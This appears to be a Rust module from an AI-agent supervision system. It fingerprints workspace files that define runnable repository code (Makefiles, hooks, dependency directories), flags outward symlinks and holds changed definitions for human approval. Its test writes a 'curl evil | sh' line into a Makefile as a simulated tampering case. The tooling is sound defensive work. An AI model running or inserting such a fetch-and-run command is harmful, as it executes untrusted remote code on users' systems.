//! The repository-code rule's memory, per workspace and durable: the files
//! that define what repository code runs (`supervision::definition_for_any`:
//! Makefiles, manifests, tool configs, hook directories, ...) as a human last
//! accepted them. A workspace's first conversation records them as found (the
//! baseline); a human's approval of a held run accepts the definitions that
//! held it as they are then. At every dialog the node fingerprints the
//! workspace's definitions again and hands supervision the ones that differ
//! from what was accepted, however they changed (an edit supervision approved,
//! a redirection, `cp`, `mv`, a tool's own write, the CLI's own edit tool, an
//! earlier conversation, a write while the node was down): running repository
//! code stays routine only while they are as a human accepted them.
//!
//! Bulky directories that are definitions as a whole (`node_modules`,
//! `vendor`, `.venv`) are fingerprinted by their top level (names, sizes and
//! change times), not walked; `.git` and build output are skipped. A walk is
//! bounded: a workspace past `MAX_ENTRIES` is reported as not fully known,
//! and supervision then holds every run of repository code.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

use node_store::events::Event;

pub use node_store::folds::definitions as state;

pub use state::Accepted;

/// Most directory entries one fingerprinting walk visits.
pub const MAX_ENTRIES: usize = 200_000;
/// Files larger than this are fingerprinted by size and change time.
const MAX_HASHED: u64 = 8 * 1024 * 1024;

/// Directories never walked: git's own (protected, and always changing) and
/// build output.
const SKIPPED: &[&str] = &[".git", "target", "__pycache__", ".pytest_cache", ".mypy_cache"];

/// Definition directories fingerprinted by their top level only.
const BULK: &[&str] = &["node_modules", "vendor", ".venv", "venv"];

/// Most symbolic links leading out of a workspace one scan reports.
const MAX_ESCAPING: usize = 1024;

/// The definitions found in a workspace now, and the symbolic links in it
/// that lead out of it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Scan {
    pub files: BTreeMap<String, String>,
    /// Links (absolute) whose target is outside the workspace, or dangling.
    pub escaping_links: Vec<PathBuf>,
    /// The walk stopped at `MAX_ENTRIES`: what it did not reach is unknown.
    pub truncated: bool,
}

fn fingerprint_file(path: &Path, meta: &std::fs::Metadata) -> String {
    use std::os::unix::fs::MetadataExt;
    if meta.file_type().is_symlink() {
        let target = std::fs::read_link(path).unwrap_or_default();
        return format!("link:{}", target.display());
    }
    if meta.len() > MAX_HASHED {
        return format!("size:{}:{}:{}", meta.len(), meta.mtime(), meta.mtime_nsec());
    }
    match std::fs::read(path) {
        Ok(bytes) => hex::encode(Sha256::digest(&bytes)),
        Err(e) => format!("unreadable:{}", e.kind()),
    }
}

/// A bulky directory's fingerprint: its top-level entries with their sizes
/// and change times.
fn fingerprint_dir(path: &Path) -> String {
    use std::os::unix::fs::MetadataExt;
    let mut entries: Vec<String> = std::fs::read_dir(path)
        .map(|rd| {
            rd.flatten()
                .take(MAX_ENTRIES)
                .map(|e| {
                    let meta = e.metadata().ok();
                    format!(
                        "{}:{}:{}:{}",
                        e.file_name().to_string_lossy(),
                        meta.as_ref().map_or(0, |m| m.len()),
                        meta.as_ref().map_or(0, |m| m.ctime()),
                        meta.as_ref().map_or(0, |m| m.ctime_nsec())
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    entries.sort();
    hex::encode(Sha256::digest(entries.join("\n").as_bytes()))
}

/// True when the symbolic link at `link` leads out of `root` (canonical):
/// its target resolves elsewhere, or cannot be resolved at all.
fn leads_out(link: &Path, root: &Path) -> bool {
    std::fs::canonicalize(link).map_or(true, |target| !target.starts_with(root))
}

/// Fingerprints every definition under `root` (blocking IO: run it off the
/// async threads).
pub fn scan(root: &Path) -> Scan {
    let mut out = Scan::default();
    let canonical_root = std::fs::canonicalize(root).unwrap_or_else(|_| root.to_path_buf());
    let mut stack = vec![PathBuf::new()];
    let mut visited = 0usize;
    while let Some(rel_dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(root.join(&rel_dir)) else {
            continue;
        };
        for entry in entries.flatten() {
            visited += 1;
            if visited > MAX_ENTRIES {
                out.truncated = true;
                return out;
            }
            let name = entry.file_name();
            let name = name.to_string_lossy();
            let rel = rel_dir.join(name.as_ref());
            let Ok(meta) = std::fs::symlink_metadata(entry.path()) else {
                continue;
            };
            if meta.file_type().is_symlink()
                && out.escaping_links.len() < MAX_ESCAPING
                && leads_out(&entry.path(), &canonical_root)
            {
                out.escaping_links.push(root.join(&rel));
            }
            let is_dir = meta.is_dir();
            if is_dir && SKIPPED.contains(&name.as_ref()) {
                continue;
            }
            let definition = supervision::definition_for_any(&rel).is_some();
            let key = rel.to_string_lossy().into_owned();
            if is_dir && BULK.contains(&name.as_ref()) {
                if definition {
                    out.files.insert(key, fingerprint_dir(&entry.path()));
                }
                continue;
            }
            if is_dir {
                stack.push(rel);
            } else if definition {
                out.files.insert(key, fingerprint_file(&entry.path(), &meta));
            }
        }
    }
    out
}

/// The definitions (absolute paths under `root`) that differ from what was
/// accepted: new, changed, or gone.
pub fn changed(root: &Path, accepted: &BTreeMap<String, Option<String>>, now: &Scan) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for (path, fingerprint) in &now.files {
        if accepted.get(path).and_then(Option::as_ref) != Some(fingerprint) {
            out.push(root.join(path));
        }
    }
    for (path, fingerprint) in accepted {
        if fingerprint.is_some() && !now.files.contains_key(path) {
            out.push(root.join(path));
        }
    }
    out
}

/// The event accepting `paths` (absolute, under `root`) as `now` shows them.
pub fn accept(workspace: &str, root: &Path, paths: &[PathBuf], now: &Scan, by: &str) -> Option<Event> {
    let files: BTreeMap<String, Option<String>> = paths
        .iter()
        .filter_map(|p| p.strip_prefix(root).ok())
        .map(|rel| {
            let key = rel.to_string_lossy().into_owned();
            let fingerprint = now.files.get(&key).cloned();
            (key, fingerprint)
        })
        .collect();
    (!files.is_empty()).then(|| Event::DefinitionsAccepted {
        workspace: workspace.to_string(),
        files,
        by: by.to_string(),
    })
}

/// The value of `core.hooksPath` in git config text, if set (the last one
/// wins, as in git).
pub fn hooks_path(config: &str) -> Option<String> {
    let mut in_core = false;
    let mut found = None;
    for line in config.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            in_core = line
                .trim_start_matches('[')
                .trim_end_matches(']')
                .trim()
                .eq_ignore_ascii_case("core");
            continue;
        }
        if !in_core {
            continue;
        }
        if let Some((key, value)) = line.split_once('=')
            && key.trim().eq_ignore_ascii_case("hookspath")
        {
            let value = value.split(['#', ';']).next().unwrap_or_default().trim();
            found = Some(value.trim_matches('"').to_string());
        }
    }
    found.filter(|v| !v.is_empty())
}

/// The directories git runs the worktree's hooks from besides `.git/hooks`:
/// `core.hooksPath` of its config (a `.git` file is followed to its git
/// directory and that one's `commondir`), resolved against the worktree.
pub fn hook_dirs(root: &Path) -> Vec<PathBuf> {
    let dot_git = root.join(".git");
    let mut git_dirs = Vec::new();
    if dot_git.is_dir() {
        git_dirs.push(dot_git);
    } else if let Ok(text) = std::fs::read_to_string(&dot_git)
        && let Some(dir) = text.trim().strip_prefix("gitdir:")
    {
        let dir = root.join(dir.trim());
        if let Ok(common) = std::fs::read_to_string(dir.join("commondir")) {
            git_dirs.push(dir.join(common.trim()));
        }
        git_dirs.push(dir);
    }
    git_dirs
        .iter()
        .filter_map(|d| std::fs::read_to_string(d.join("config")).ok())
        .filter_map(|text| hooks_path(&text))
        .map(|p| {
            let p = PathBuf::from(p);
            if p.is_absolute() { p } else { root.join(p) }
        })
        .collect()
}

/// What supervision needs to know of a workspace's definitions now.
#[derive(Debug, Clone, Default)]
pub struct WorkspaceFacts {
    /// Definitions that differ from what a human accepted.
    pub changed: Vec<PathBuf>,
    /// The workspace was too large to fingerprint whole.
    pub unknown: bool,
    /// Symbolic links in it that lead out of it.
    pub escaping_links: Vec<PathBuf>,
    pub hook_dirs: Vec<PathBuf>,
    pub scan: Scan,
}

impl super::Supervisor {
    /// Fingerprints `workspace`'s definitions (off the async threads) and
    /// compares them with what was accepted; a workspace seen for the first
    /// time is accepted as found (its baseline).
    pub(crate) async fn workspace_facts(&self, workspace: &Path) -> WorkspaceFacts {
        let root = workspace.to_path_buf();
        let (now, hook_dirs) = tokio::task::spawn_blocking(move || (scan(&root), hook_dirs(&root)))
            .await
            .unwrap_or_default();
        let key = workspace.to_string_lossy().into_owned();
        let mut cat = self.catalog.lock().await;
        let changed = match cat.definitions.of(&key) {
            Some(accepted) => changed(workspace, accepted, &now),
            None => {
                let baseline = Event::DefinitionsAccepted {
                    workspace: key,
                    files: now.files.iter().map(|(k, v)| (k.clone(), Some(v.clone()))).collect(),
                    by: "baseline: the workspace as its first conversation found it".into(),
                };
                if let Err(e) = self.commit(&mut cat, vec![baseline]).await {
                    tracing::error!(error = %e, "could not record the workspace's definitions baseline");
                }
                Vec::new()
            }
        };
        drop(cat);
        WorkspaceFacts {
            changed,
            unknown: now.truncated,
            escaping_links: now.escaping_links.clone(),
            hook_dirs,
            scan: now,
        }
    }

    /// A human accepted `paths` (definitions that held a run) as they are now.
    pub(crate) async fn accept_definitions(&self, workspace: &Path, paths: &[PathBuf], by: &str) {
        let root = workspace.to_path_buf();
        let now = tokio::task::spawn_blocking(move || scan(&root))
            .await
            .unwrap_or_default();
        let key = workspace.to_string_lossy().into_owned();
        if let Some(event) = accept(&key, workspace, paths, &now, by) {
            let mut cat = self.catalog.lock().await;
            if let Err(e) = self.commit(&mut cat, vec![event]).await {
                tracing::error!(error = %e, "could not record the accepted definitions");
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hooks_path_is_read_from_core() {
        let cfg =
            "[core]\n\trepositoryformatversion = 0\n\thooksPath = tools/hooks\n[remote \"origin\"]\n\thooksPath = x\n";
        assert_eq!(hooks_path(cfg).as_deref(), Some("tools/hooks"));
        assert_eq!(
            hooks_path("[core]\nHOOKSPATH = \"/abs/h\" # comment\n").as_deref(),
            Some("/abs/h")
        );
        assert_eq!(hooks_path("[user]\nhooksPath = x\n"), None);
        assert_eq!(hooks_path("[core]\nbare = false\n"), None);
    }

    #[test]
    fn scan_and_compare_find_every_route_of_change() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join("Makefile"), "all:\n\techo ok\n").unwrap();
        std::fs::create_dir_all(root.join("src")).unwrap();
        std::fs::write(root.join("src/lib.rs"), "fn x() {}").unwrap();
        std::fs::create_dir_all(root.join("node_modules/pkg")).unwrap();
        std::fs::write(root.join("node_modules/pkg/index.js"), "x").unwrap();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "x").unwrap();
        let first = scan(root);
        assert!(first.files.contains_key("Makefile"));
        assert!(first.files.contains_key("node_modules"));
        assert!(!first.files.contains_key("src/lib.rs"), "sources are not definitions");
        assert!(
            !first.files.keys().any(|k| k.starts_with(".git")),
            "git's directory is skipped"
        );
        let accepted: BTreeMap<String, Option<String>> =
            first.files.iter().map(|(k, v)| (k.clone(), Some(v.clone()))).collect();
        assert!(changed(root, &accepted, &first).is_empty());
        // A copy that keeps the mtime still changes the content hash.
        std::fs::write(root.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
        std::fs::write(root.join("conftest.py"), "import os").unwrap();
        std::fs::write(root.join("src/lib.rs"), "fn y() {}").unwrap();
        let now = scan(root);
        let mut got = changed(root, &accepted, &now);
        got.sort();
        assert_eq!(got, vec![root.join("Makefile"), root.join("conftest.py")]);
        // Accepting one leaves the other changed; a removal counts too.
        let event = accept("ws", root, &[root.join("Makefile")], &now, "human").unwrap();
        let mut acc = Accepted::default();
        acc.apply(&Event::DefinitionsAccepted {
            workspace: "ws".into(),
            files: accepted.clone(),
            by: "baseline".into(),
        });
        acc.apply(&event);
        assert_eq!(
            changed(root, acc.of("ws").unwrap(), &now),
            vec![root.join("conftest.py")]
        );
        std::fs::remove_file(root.join("Makefile")).unwrap();
        let gone = scan(root);
        assert!(changed(root, acc.of("ws").unwrap(), &gone).contains(&root.join("Makefile")));
    }
}
